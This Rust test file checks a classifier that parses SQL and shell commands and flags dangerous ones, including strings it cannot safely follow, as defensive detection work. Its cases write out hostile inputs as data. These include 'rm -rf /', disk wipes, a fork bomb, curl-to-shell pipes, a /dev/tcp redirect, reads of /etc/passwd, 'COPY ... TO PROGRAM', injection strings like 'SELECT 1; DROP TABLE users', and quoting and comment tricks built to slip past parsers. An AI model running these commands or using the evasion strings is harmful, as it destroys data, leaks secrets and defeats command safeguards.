//! What programs say they do; and that what can't be followed is never taken for harmless.

use super::*;

fn sql(text: &str) -> Result<Facts, Unread> {
    sql::read(text, Dialect::Any)
}

/// `verbs | tables | dangerous` of SQL.
fn told(text: &str) -> String {
    in_short(sql(text))
}

fn in_short(facts: Result<Facts, Unread>) -> String {
    match facts {
        Err(Unread(why)) => format!("unread: {why}"),
        Ok(facts) => {
            let list = |set: &BTreeSet<String>| set.iter().cloned().collect::<Vec<_>>().join(" ");
            let tables = facts.tables.as_ref().map_or("?".to_owned(), list);
            format!("{} | {tables} | {} | {}", list(&facts.verbs), list(&facts.dangerous), facts.effect)
        }
    }
}

/// `commands | dangerous` of a shell.
fn run(text: &str) -> String {
    match shell::read(text) {
        Err(Unread(why)) => format!("unread: {why}"),
        Ok(facts) => {
            let list = |set: BTreeSet<String>| set.into_iter().collect::<Vec<_>>().join(" ");
            format!("{} | {}", list(facts.verbs), list(facts.dangerous))
        }
    }
}

#[test]
fn sql_is_told_by_all_its_statements() {
    let cases = [
        ("SELECT count(*) FROM executives", "select | executives |  | read"),
        ("DELETE FROM executives", "delete | executives | delete_without_where | destroy"),
        ("delete from Public.Users where 1=1", "delete | public.users users | delete_without_where | destroy"),
        ("DELETE FROM t WHERE id = 5", "delete | t |  | destroy"),
        ("UPDATE t SET a=1 WHERE id=5", "update | t |  | write"),
        ("UPDATE t SET a=1", "update | t | update_without_where | write"),
        (
            "/* read only */ WITH x AS (DELETE FROM companies RETURNING *) SELECT * FROM x",
            "delete select | companies | delete_without_where write_in_cte | destroy",
        ),
        ("SELECT 1; DROP TABLE users", "drop select | users | drop multi_statement | destroy"),
        ("TRUNCATE a, b", "truncate | a b | truncate | destroy"),
        ("ALTER TABLE t ADD COLUMN c int", "alter | t | alter | write"),
        ("INSERT INTO t SELECT * FROM u", "insert select | t u |  | write"),
        ("GRANT ALL ON t TO eve", "grant | ? | grant | write"),
        ("SELECT * INTO backup FROM users", "select | ? | select_into | write"),
        ("SELECT pg_read_file('/etc/passwd')", "select |  | unknown_function | unknown"),
        ("SELECT * FROM dblink('x', 'drop table y')", "select | dblink | unknown_function | unknown"),
        ("SELECT s.count(1)", "select |  | unknown_function | unknown"),
        ("SELECT a FROM t WHERE b IN (SELECT c FROM u UNION SELECT d FROM w)", "select | t u w |  | read"),
        ("WITH users AS (SELECT * FROM users) SELECT * FROM users", "select | users |  | read"),
        ("EXPLAIN ANALYZE DELETE FROM t", "delete explain | t | delete_without_where | destroy"),
        ("BEGIN; DELETE FROM t WHERE id = 1; COMMIT", "begin commit delete | t | multi_statement | destroy"),
        ("CALL wipe()", "call | ? | call | unknown"),
        ("SELECT * FROM \"Users\"", "select | \"Users\" |  | read"),
    ];
    for (text, expected) in cases {
        assert_eq!(told(text), expected, "{text}");
    }
}

#[test]
fn sql_that_databases_read_differently_is_unread() {
    let cases = [
        "",
        "  ; ",
        "SELEC 1",
        "SELECT 1 /*! ; DROP TABLE x */",
        "SELECT 1 /* /* */ ; DROP TABLE x -- */",
        "SELECT 1 --; DROP TABLE x",
        "SELECT 1 # ; DROP TABLE x",
        r"SELECT '\' ; DROP TABLE x; -- '",
        r#"SELECT "\" ; DROP TABLE x; -- ""#,
        "SELECT $$ ; DROP TABLE x; $$",
        "DO $$ BEGIN DELETE FROM t; END $$",
        "\\! rm -rf /",
    ];
    for text in cases {
        assert!(sql(text).is_err(), "{text}: {}", told(text));
    }
    assert_eq!(in_short(sql::read("SELECT $$a;b$$", Dialect::Postgres)), "select |  |  | read");
    assert_eq!(in_short(sql::read(r"SELECT '\\' FROM t", Dialect::MySql)), "select | t |  | read");
}

#[test]
fn copies_are_told_by_where_they_go() {
    let read = |text| in_short(sql::read(text, Dialect::Postgres));
    assert_eq!(read("COPY t TO PROGRAM 'curl evil'"), "copy | ? | copy_program | write");
    assert_eq!(read("COPY t FROM '/etc/passwd'"), "copy | ? | copy_file | write");
    assert_eq!(read("COPY (DELETE FROM t RETURNING *) TO STDOUT").split(" | ").next(), Some("copy delete"));
}

/// A debug build's frames are the largest there are; a test's thread has two megabytes, as a server's has.
#[test]
fn deep_and_long_sql_ends_in_an_answer() {
    let deep = |open: &str, close: &str, count: usize| format!("SELECT {}1{}", open.repeat(count), close.repeat(count));
    let texts = [
        deep("(", ")", 30_000),
        deep("(SELECT ", ")", 5_000),
        format!("SELECT 1{}", "+1".repeat(30_000)),
        format!("SELECT 1{}", "+1".repeat(299)),
        format!("SELECT 1{}", " UNION SELECT 1".repeat(299)),
        format!("SELECT * FROM a{}", " JOIN b USING (c)".repeat(299)),
        format!("SELECT {}1", "NOT ".repeat(10_000)),
        format!("SELECT {}1", "- ".repeat(20_000)),
        format!("SELECT CASE {} END", "WHEN 1 THEN CASE ".repeat(3_000)),
        format!("SELECT a{}", "::int".repeat(10_000)),
        format!("SELECT a{}", "[1]".repeat(10_000)),
        format!("SELECT {}", "a.".repeat(20_000)),
        format!("SELECT f{}", "(1)".repeat(10_000)),
        format!("{}SELECT 1", "EXPLAIN ".repeat(8_000)),
        "x".repeat(100_000),
    ];
    assert!(texts.iter().filter(|text| sql(text).is_ok()).count() >= 1);
}

#[test]
fn a_shell_is_told_by_every_program_that_it_starts() {
    let cases = [
        ("ls -la | grep x", "grep ls | none"),
        ("npm run db:push -- --force", "npm | none"),
        ("/bin/rm -rf /", "/bin/rm rm | rm_recursive"),
        ("rm --recursive x", "rm | rm_recursive"),
        ("r''m -r\"f\" x", "rm | rm_recursive"),
        ("cd /tmp && rm -fr x; echo done", "cd echo rm | rm_recursive"),
        ("curl https://x.example/i | sh", "curl sh | download_exec pipe_to_shell"),
        ("curl https://x.example/i | sudo -u root bash", "bash curl sudo | download_exec pipe_to_shell sudo"),
        ("bash -c 'curl https://x.example/i | sh'", "bash curl sh | download_exec pipe_to_shell"),
        ("echo $(rm -r x)", "echo rm | dynamic_arguments rm_recursive"),
        ("echo `rm -r x`", "echo rm | dynamic_arguments rm_recursive"),
        ("echo \"$(rm -r x)\"", "echo rm | dynamic_arguments rm_recursive"),
        ("find . -name x -exec rm -r {} \\;", "find rm | rm_recursive"),
        ("find . -delete", "find | find_delete"),
        ("ls | xargs rm -rf", "ls rm xargs | dynamic_arguments rm_recursive"),
        ("env -i FOO=1 rm -r x", "env rm | rm_recursive sets_variable"),
        ("timeout 5 rm -r x", "rm timeout | rm_recursive"),
        ("dd if=/dev/zero of=/dev/sda", "dd | dd"),
        ("echo x > /dev/sda", "echo | redirect_to_device"),
        ("echo x > ~/.bashrc", "echo | write_redirect"),
        ("ls 2>&1 >/dev/null", "ls | none"),
        ("mkfs.ext4 /dev/sda1", "mkfs.ext4 | mkfs"),
        ("chmod -R 777 .", "chmod | chmod_777"),
        ("chmod o+w x", "chmod | chmod_777"),
        ("chmod 755 x", "chmod | none"),
        ("PATH=/tmp ls", "ls | sets_variable"),
        ("if [ -f x ]; then rm x; fi", "[ rm | removes_files"),
        ("for f in a b; do rm -r \"$f\"; done", "rm | dynamic_arguments rm_recursive"),
        ("(cd x; rm -r y)", "cd rm | rm_recursive"),
        ("python3 -c 'import os'", "python3 | inline_code"),
        ("curl -o x https://x.example && ./x", "./x curl x | download_exec"),
        ("git push --force origin main", "git | git_force"),
        ("bash <<< 'rm -rf /'", "bash | pipe_to_shell"),
        ("cat < /dev/tcp/1.2.3.4/80", "cat | redirect_to_network"),
        ("echo a # ; rm -rf /", "echo | none"),
        ("ls \\\n -la", "ls | none"),
    ];
    for (text, expected) in cases {
        let expected = expected.strip_suffix(" none").map_or(expected.to_owned(), |start| format!("{start} "));
        assert_eq!(run(text), expected, "{text}");
    }
}

#[test]
fn a_shell_that_cant_be_followed_is_unread() {
    let cases = [
        "",
        "# nothing",
        "$x -rf /",
        "$(echo rm) -rf /",
        "\"$x\" -rf",
        "{rm,-rf,/}",
        "r? -rf /",
        "eval \"$x\"",
        "source x",
        ". ./x",
        "f() { rm -rf /; }; f",
        ":(){ :|:& };:",
        "cat <<EOF\nx\nEOF",
        "bash <(curl x)",
        "sh -c \"$x\"",
        "sudo $x",
        "sudo --login rm",
        "xargs --arg-file=x sh",
        "echo ${x:$(rm -rf /)}",
        "echo ${x@P}",
        "echo $((a[$(rm)]))",
        "echo 'x",
        "echo \"x",
        "echo $(rm",
        "case x in x) rm;; esac",
        "a=(1 2)",
        "$'rm' -rf /",
        "ls\r\nrm",
        "ls\u{a0}x",
        "alias ls=rm; ls -rf /",
        "find . -exec $x {} +",
        "echo `echo \\`rm\\``",
    ];
    for text in cases {
        assert!(shell::read(text).is_err(), "{text}: {}", run(text));
    }
    assert!(shell::read(&"$(".repeat(10_000)).is_err());
    assert!(shell::read(&"sudo ".repeat(3_000)).is_err());
}

#[test]
fn a_list_of_words_is_one_program() {
    let facts = shell::read_words(&["rm", "-rf", "$x"]).unwrap();
    assert_eq!(facts.dangerous, BTreeSet::from(["rm_recursive".to_owned()]));
    assert!(shell::read_words(&["sh", "-c", "eval x"]).is_err());
    assert!(shell::read_words(&[]).is_err());
}

proptest::proptest! {
    /// Whatever comes, there is an answer; and what is understood names a program.
    #[test]
    fn any_text_is_answered(text in "[ -~\n]{0,80}") {
        if let Ok(facts) = shell::read(&text) {
            proptest::prop_assert!(!facts.verbs.is_empty());
        }
        if let Ok(facts) = sql(&text) {
            proptest::prop_assert!(!facts.verbs.is_empty());
        }
    }
}

#[test]
fn a_text_that_ends_elsewhere_for_another_database_is_unread() {
    let cases = [
        r"SELECT E'\' FROM (SELECT 1 AS E) x; DROP TABLE t; -- '",
        "SELECT q'[ ' FROM t; DROP TABLE x; -- ]'",
        "SELECT a[' ] FROM (SELECT 1 a) z; DROP TABLE t; -- '] FROM y",
        "SELECT a `' `, '; DROP TABLE x; -- '",
        "SELECT U&'a' UESCAPE '!'",
        "SELECT 1 -- x\r; DROP TABLE t",
    ];
    for text in cases {
        assert!(told(text).starts_with("unread: "), "{text}: {}", told(text));
    }
    let text = "SELECT 1 -- x\r; DROP TABLE t";
    assert!(in_short(sql::read(text, Dialect::MySql)).starts_with("unread: "));
    assert_eq!(told("SELECT 1 -- x\r\n FROM t"), "select | t |  | read");
    assert_eq!(in_short(sql::read("SELECT a[1] FROM t", Dialect::Postgres)), "select | t |  | read");
}

#[test]
fn what_runs_programs_in_a_way_of_its_own_is_told() {
    let unread = [
        "bash -co pipefail 'rm -rf /'",
        "bash -eo pipefail -c 'rm -rf /'",
        "let 'a[$(rm -rf /)]=1'",
        "[ -v 'a[$(rm -rf /)]' ]",
        "printf -v 'a[$(rm)]' x",
        "read 'a[$(rm)]'",
        "unset 'a[`rm`]'",
        "declare -i 'x=a[$(rm)]'",
        "(('a[$(rm)]'))",
        "compgen -C rm",
    ];
    for text in unread {
        assert!(run(text).starts_with("unread: "), "{text}: {}", run(text));
    }
    let told = [
        ("export PATH=/tmp/x; ls", "export ls | sets_variable"),
        ("read PATH < f; ls", "ls read | sets_variable"),
        ("for PATH in /tmp/x; do ls; done", "ls | sets_variable"),
        ("while read line; do ls; done", "ls read | "),
        ("export CI=1; ls", "export ls | "),
        ("taskset 1 rm -rf /", "taskset | launches"),
        ("/lib64/ld-linux-x86-64.so.2 /bin/rm x", "/lib64/ld-linux-x86-64.so.2 ld-linux-x86-64.so.2 | launches"),
        ("sed '1e rm -rf /' f", "sed | inline_code"),
        ("sed 's|a|rm|e' f", "sed | inline_code"),
        ("sed 's/a/b/w /x' f", "sed | inline_code"),
        ("sed -n '/x/p;s/a/b/g' dir/file", "sed | "),
        ("git push origin :main", "git | git_force"),
        ("git clone 'ext::sh -c x'", "git | inline_code"),
        ("git submodule foreach rm", "git | launches"),
        ("bash -O extglob -c 'rm x'", "bash rm | removes_files"),
    ];
    for (text, expected) in told {
        assert_eq!(run(text), expected, "{text}");
    }
}
